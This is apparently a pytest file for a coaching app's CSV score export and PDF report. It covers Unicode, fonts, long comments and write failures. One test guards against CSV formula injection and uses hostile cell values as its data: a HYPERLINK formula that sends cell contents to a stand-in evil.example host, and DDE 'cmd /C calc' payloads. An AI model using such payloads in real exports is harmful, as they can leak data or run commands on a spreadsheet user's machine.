# ruff: noqa: F811  (the fixtures imported from review_support are parameters here)
"""The scores CSV, checked cell by cell, and the PDF coaching report."""

from __future__ import annotations

import csv
import os
import resource
import shutil
import signal
import subprocess
import sys
import unicodedata

import pytest
from factories import add_catalogue
from pypdf import PdfReader
from review_support import coaching, review_video, utc  # noqa: F401  (fixtures)
from sqlalchemy import select

from app.core.errors import UserError
from app.core.models import Decision, Scenario, Submission
from app.review.comments import MAX_TEXT, add_comment
from app.review.decisions import decide
from app.review.export import write_scores_csv
from app.review.periods import ALL_TIME, parse_period
from app.review.report import build_report, write_report_pdf
from app.review.scores import ScoreRow, score_rows
from app.review.scoring import score_submission
from app.scenarios.rubrics import Criterion

GOOD = {"discovery": 4, "benefit": 3, "close": 7}  # 72.5
HALF = {"discovery": 5, "benefit": 0, "close": 0}  # 50.0


@pytest.fixture
def scored(coaching, make_profile):
    """Three reviews across two months, two rubrics and an awkward name."""
    zoe = make_profile('Zoë "Z" Ng, Jr.', "rep", team="South")
    with coaching.ctx.session() as s:
        base = s.get(Scenario, coaching.scenario_id)
        short_id = add_catalogue(
            s,
            products=(),  # the base scenario's own pair
            rubric=("rv-short", "Short"),
            criteria=[("rapport", "Rapport", 1.0, 3)],
            scenarios=[
                {
                    "key": "rv-short-offer",
                    "title": "Short offer",
                    "situation": "A quick chat.",
                    "primary": base.primary_product.key,
                    "cross_sell": base.cross_sell_product.key,
                }
            ],
        ).scenario.id
    ana = coaching.submit(coaching.ana, utc(2026, 11, 20))
    zoe_sub = coaching.submit(zoe, utc(2026, 11, 25))
    with coaching.ctx.session() as s:
        s.get(Submission, zoe_sub).scenario_id = short_id
    with coaching.ctx.session() as s:
        score_submission(
            s, coaching.tom, ana, GOOD, "Lovely open questions.", now=utc(2026, 11, 30, 23, 59)
        )
        decide(s, coaching.tom, ana, Decision.APPROVE)
        score_submission(s, coaching.max, ana, HALF, "Close earlier.", now=utc(2026, 12, 1, 8))
        decide(s, coaching.max, ana, Decision.RETAKE, "Ask for the card.")
        score_submission(s, coaching.tia, zoe_sub, {"rapport": 2}, now=utc(2026, 11, 26, 10))
        add_comment(s, coaching.tom, ana, 1.5, "Great question", "good discovery question")
        add_comment(s, coaching.max, ana, 3.0, "", "missed the cross-sell moment")
    return coaching, ana, zoe_sub


def _read(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the UTF-8 mark spreadsheet programs look for
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_the_scores_csv_cell_by_cell(scored, tmp_path):
    coaching, ana, zoe = scored
    with coaching.ctx.session() as s:
        rows = score_rows(s)
    path = tmp_path / "scores.csv"
    assert write_scores_csv(path, rows) == 3
    header, *body = _read(path)
    assert header == [
        "submission_id",
        "rep",
        "team",
        "scenario",
        "reviewer",
        "reviewed_date",
        "period",
        "discovery",
        "benefit",
        "close",
        "rapport",
        "points",
        "decision",
    ]
    assert body == [
        [zoe, 'Zoë "Z" Ng, Jr.', "South", "rv-short-offer", "Tia Trainer", "2026-11-26",
         "2026-11", "", "", "", "2", "66.7", "none"],
        [ana, "Ana Souza", "North", "rv-card-offer", "Tom Trainer", "2026-11-30",
         "2026-11", "4", "3", "7", "", "72.5", "approve"],
        [ana, "Ana Souza", "North", "rv-card-offer", "Max Manager", "2026-12-01",
         "2026-12", "5", "0", "0", "", "50.0", "retake"],
    ]  # fmt: skip
    text = path.read_text(encoding="utf-8-sig")
    assert '"Zoë ""Z"" Ng, Jr."' in text  # quoted, quotes doubled


def test_the_csv_for_one_period_rep_and_scenario(scored, tmp_path):
    coaching, ana, _ = scored
    november = parse_period("2026-11")
    with coaching.ctx.session() as s:
        rows = score_rows(s, november, rep_id=coaching.ana.id, scenario_id=coaching.scenario_id)
    path = tmp_path / "ana.csv"
    write_scores_csv(path, rows, november)
    header, *body = _read(path)
    assert header[7:] == ["discovery", "benefit", "close", "points", "decision"]
    assert body == [
        [ana, "Ana Souza", "North", "rv-card-offer", "Tom Trainer", "2026-11-30", "2026-11",
         "4", "3", "7", "72.5", "approve"],
    ]  # fmt: skip


def test_a_csv_into_a_missing_folder_is_refused_and_nothing_is_written(scored, tmp_path):
    coaching, _, _ = scored
    with coaching.ctx.session() as s:
        rows = score_rows(s, ALL_TIME)
    with pytest.raises(UserError, match="does not exist"):
        write_scores_csv(tmp_path / "nowhere" / "scores.csv", rows)
    assert not (tmp_path / "nowhere").exists()


def test_cells_that_would_start_a_formula_are_text_in_the_csv(coaching, make_profile, tmp_path):
    """OWASP's CSV injection: a rep named =HYPERLINK(...) must not run in the manager's
    spreadsheet. Text cells starting with = + - @ get a leading quote; numbers stay numbers."""
    rep = make_profile('=HYPERLINK("http://evil.example/?"&A1,"Click")', "rep", team="+SUM(A1:A9)")
    reviewer = make_profile("@SUM(1+1)*cmd|' /C calc'!A0", "trainer")
    minus = make_profile("-2+3+cmd|' /C calc'!A0", "rep", team="-5")
    first, second = coaching.submit(rep), coaching.submit(minus)
    with coaching.ctx.session() as s:
        score_submission(s, reviewer, first, GOOD, now=utc(2026, 11, 20))
        score_submission(s, reviewer, second, HALF, now=utc(2026, 11, 21))
        rows = score_rows(s)
    path = tmp_path / "scores.csv"
    write_scores_csv(path, rows)
    _, one, two = _read(path)
    assert one[1:5] == [
        """'=HYPERLINK("http://evil.example/?"&A1,"Click")""",
        "'+SUM(A1:A9)",
        "rv-card-offer",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    assert one[7:] == ["4", "3", "7", "72.5", "none"]
    assert two[1:3] == ["'-2+3+cmd|' /C calc'!A0", "-5"]  # a team named -5 is a plain number


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3", "-3"),
        ("+4", "+4"),
        ("-72.5", "-72.5"),
        ("72.5", "72.5"),
        ("-", "'-"),
        ("Ana = Bea", "Ana = Bea"),
    ],
)
def test_each_dangerous_start_is_neutralised_and_plain_numbers_are_not(tmp_path, cell, written):
    """Cells the product cannot produce through profiles (a leading tab or carriage return,
    a negative score) go through the same writer as rows straight from the table."""
    row = ScoreRow(
        review_id="r1",
        submission_id="s1",
        rep_id="p1",
        rep_name=cell,
        team=cell,
        scenario_key="k",
        scenario_title="T",
        reviewer_name="Tom",
        reviewed_at=utc(2026, 11, 20),
        scores={"c": -3},
        points=-1.5,
        decision=Decision.APPROVE,
        feedback="",
        criteria=(Criterion("c", "C", "", 1.0, 5),),
    )
    path = tmp_path / "scores.csv"
    write_scores_csv(path, [row])
    _, back = _read(path)
    assert back[1:3] == [written, written]
    assert back[7:] == ["-3", "-1.5", "approve"]


def _even(text: str) -> str:
    """Spacing evened out (gaps may come out as tabs, line ends, several spaces)."""
    return " ".join(unicodedata.normalize("NFKC", text).split())


def _pdf_text(path) -> str:
    """The PDF's words as pypdf reads them."""
    return _even(" ".join(page.extract_text() for page in PdfReader(path).pages))


def _pdftotext(path) -> str | None:
    """The PDF's words as poppler's ``pdftotext`` reads them (the engine of most Linux PDF
    viewers; .ci/run installs poppler-utils). None where it is not installed, except
    under CI, where that fails the test."""
    tool = shutil.which("pdftotext")
    if tool is None:
        if os.environ.get("CI") == "true":
            pytest.fail("pdftotext is missing: install poppler-utils")
        return None
    done = subprocess.run(
        [tool, "-enc", "UTF-8", str(path), "-"], capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    assert "Error" not in done.stderr, done.stderr  # poppler reads it without complaint
    return _even(done.stdout)


def _pdf_texts(path) -> list[str]:
    """The PDF's words as each reader here sees them: what one reader finds, both must."""
    return [text for text in (_pdf_text(path), _pdftotext(path)) if text is not None]


CHART_SCALE = "100 75 50 25 0"  # the points chart's axis labels, top to bottom


def test_the_coaching_report_pdf_holds_the_rep_scores_and_comments(scored, tmp_path):
    coaching, _, _ = scored
    with coaching.ctx.session() as s:
        report = build_report(s, "Ana Souza", parse_period("2026-Q4"))
    assert [r.points for r in report.rows] == [72.5, 50.0]
    assert report.mean_points == 61.2  # 61.25, rounded half to even
    by_key = {c.key: c for c in report.criteria}
    assert by_key["discovery"].mean_percent == 90.0  # (4/5 + 5/5) / 2
    assert by_key["benefit"].mean_percent == 30.0  # (3/5 + 0/5) / 2
    assert by_key["close"].mean_percent == 35.0  # (7/10 + 0/10) / 2
    assert [c.key for c in report.strengths] == ["discovery"]
    assert [c.key for c in report.weaknesses] == ["benefit"]
    path = write_report_pdf(report, tmp_path / "ana.pdf")
    assert path.read_bytes().startswith(b"%PDF")
    assert not list(tmp_path.glob(".*partial"))
    for text in _pdf_texts(path):
        _holds_ana_s_report(text)


def _holds_ana_s_report(text: str) -> None:
    for expected in (
        "Ana Souza",
        "2026-Q4",
        "72.5",
        "50.0",
        "61.2",
        "Discovery questions",
        "Strengths: Discovery questions",
        "To work on: Benefit explained",
        "Lovely open questions.",
        "Close earlier.",
        "Great question",
        "missed the cross-sell moment",
        "Tom Trainer",
        "Max Manager",
        CHART_SCALE,  # two reviews: the chart is drawn
    ):
        assert expected in text, expected


def test_a_report_for_a_quiet_period_says_so(scored, tmp_path):
    coaching, _, _ = scored
    with coaching.ctx.session() as s:
        report = build_report(s, "Ana Souza", parse_period("2026-01"))
    path = write_report_pdf(report, tmp_path / "quiet.pdf")
    for text in _pdf_texts(path):
        assert "Ana Souza" in text and "No reviews in this period." in text
        assert CHART_SCALE not in text


def test_score_rows_leave_out_withdrawn_reviews(scored):
    from app.core.models import Review

    coaching, ana, _ = scored
    with coaching.ctx.session() as s:
        review = s.scalar(select(Review).where(Review.reviewer_id == coaching.max.id))
        review.deleted = True
    with coaching.ctx.session() as s:
        assert [r.reviewer_name for r in score_rows(s, rep_id=coaching.ana.id)] == ["Tom Trainer"]


@pytest.mark.real_kdf  # the crosscoach process makes Tom's key at the real cost
def test_a_cli_process_writes_the_pdf_without_any_widget_application(scored, tmp_path):
    """A separate ``crosscoach report`` process writes the PDF without loading Qt at
    all: no QGuiApplication that could come before the desktop app's QApplication, and
    no display needed."""
    coaching, _ana, _zoe = scored
    pdf = tmp_path / "ana.pdf"
    env = {k: v for k, v in os.environ.items() if k != "QT_QPA_PLATFORM"}
    done = subprocess.run(
        [sys.executable, "-c", CLI_THEN_LIST_QT, "--data-dir", str(coaching.ctx.paths.root),
         "--as", "Tom Trainer", "report", "Ana Souza", "--period", "all",
         "--pdf", str(pdf)],
        env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "Wrote the coaching report for Ana Souza" in done.stdout
    assert "Qt modules loaded: []" in done.stdout
    assert "Ana Souza" in _pdf_text(pdf)


# ``crosscoach ARGS``, then the Qt modules the process loaded.
CLI_THEN_LIST_QT = """
import sys
from app.__main__ import main
code = main(sys.argv[1:])
print("Qt modules loaded:", sorted(m for m in sys.modules if m.startswith(("PySide6", "shiboken6"))))
sys.exit(code)
"""


@pytest.fixture
def zoe_s_quarter(coaching, make_profile):
    """Two reviews of a rep whose name, team, reviewer, feedback and comments are not ASCII."""
    zoe = make_profile("Zoë Ångström", "rep", team="Süd")
    lukasz = make_profile("Łukasz Wójcik", "trainer")
    first = coaching.submit(zoe, utc(2026, 10, 5))
    second = coaching.submit(zoe, utc(2026, 11, 5))
    with coaching.ctx.session() as s:
        score_submission(s, lukasz, first, GOOD, "Świetnie: pytania otwarte.", now=utc(2026, 10, 6))
        score_submission(s, lukasz, second, HALF, "Ærligt talt: spørg før.", now=utc(2026, 11, 6))
        add_comment(s, lukasz, second, 2.0, "Ça coûte 5 € — naïve façade, Ω ≈ π")
    return coaching, zoe


def test_a_report_prints_names_and_words_beyond_latin_1(zoe_s_quarter, tmp_path):
    """PDF's built-in fonts know only Latin-1 (no Ł, no €): the report embeds its own font."""
    coaching, zoe = zoe_s_quarter
    with coaching.ctx.session() as s:
        # By id: finding "Zoë Ångström" by name fails today (SQLite's lower() folds only
        # ASCII, so 'Å' never matches 'å'), a profile-lookup matter apart from the PDF.
        report = build_report(s, zoe.id, parse_period("2026-Q4"))
    path = write_report_pdf(report, tmp_path / "zoë.pdf")
    for text in _pdf_texts(path):
        for expected in (
            "Coaching report: Zoë Ångström",
            "Team: Süd",
            "Łukasz Wójcik",
            "Świetnie: pytania otwarte.",
            "Ærligt talt: spørg før.",
            "Ça coûte 5 € — naïve façade, Ω ≈ π",
            CHART_SCALE,
        ):
            assert expected in text, expected
    reader = PdfReader(path)
    assert reader.metadata.title == "Coaching report — Zoë Ångström — 2026-Q4"
    assert reader.metadata.creator == "CrossCoach"
    fonts = {  # embedded subsets are named ABCDEF+Name
        str(font.get_object()["/BaseFont"]).split("+")[-1]
        for page in reader.pages
        for font in page["/Resources"]["/Font"].values()
    }
    assert len(fonts) == 2 and all(f.startswith("DejaVuSans") for f in fonts), fonts  # + bold


def test_a_long_comment_runs_on_over_pages_whole(coaching, tmp_path):
    """A table row may not be taller than a page; a comment at the longest the app takes,
    in wide letters, is continued over several rows instead of failing the report."""
    longest = "W" * MAX_TEXT
    sub = coaching.submit(coaching.ana, utc(2026, 11, 20))
    with coaching.ctx.session() as s:
        score_submission(s, coaching.tom, sub, GOOD, now=utc(2026, 11, 21))
        add_comment(s, coaching.tom, sub, 1.0, longest)
        add_comment(s, coaching.tom, sub, 2.0, "after the long one")
        report = build_report(s, "Ana Souza", parse_period("2026-11"))
    path = write_report_pdf(report, tmp_path / "long.pdf")
    for text in _pdf_texts(path):
        assert sum(word.count("W") for word in text.split() if set(word) == {"W"}) == MAX_TEXT
        assert text.index("after the long one") > text.rindex("W")
    assert len(PdfReader(path).pages) >= 2


def test_a_pdf_into_a_missing_folder_is_refused_and_nothing_is_written(scored, tmp_path):
    coaching, _, _ = scored
    with coaching.ctx.session() as s:
        report = build_report(s, "Ana Souza", ALL_TIME)
    with pytest.raises(UserError) as refused:
        write_report_pdf(report, tmp_path / "nowhere" / "ana.pdf")
    assert refused.value.message == f"The folder {tmp_path / 'nowhere'} does not exist."
    assert refused.value.hint == "Choose a folder that exists for the PDF."
    assert not (tmp_path / "nowhere").exists()


def test_a_pdf_the_disk_will_not_take_leaves_the_old_report_whole(scored, tmp_path):
    """The disk refuses the bytes halfway (here the process's file size limit, the way a
    full disk or a quota does): a plain error, no partial file, last month's report as
    it was."""
    coaching, _, _ = scored
    with coaching.ctx.session() as s:
        report = build_report(s, "Ana Souza", ALL_TIME)
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "ana.pdf"
    target.write_bytes(b"last month's report")
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    before = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # an error, not the signal
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, hard))
    try:
        with pytest.raises(UserError) as refused:
            write_report_pdf(report, target)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, before)
    assert refused.value.message == f"CrossCoach could not write {target}."
    assert refused.value.hint == "Choose a folder you can write to."
    assert target.read_bytes() == b"last month's report"
    assert sorted(p.name for p in target.parent.iterdir()) == ["ana.pdf"]
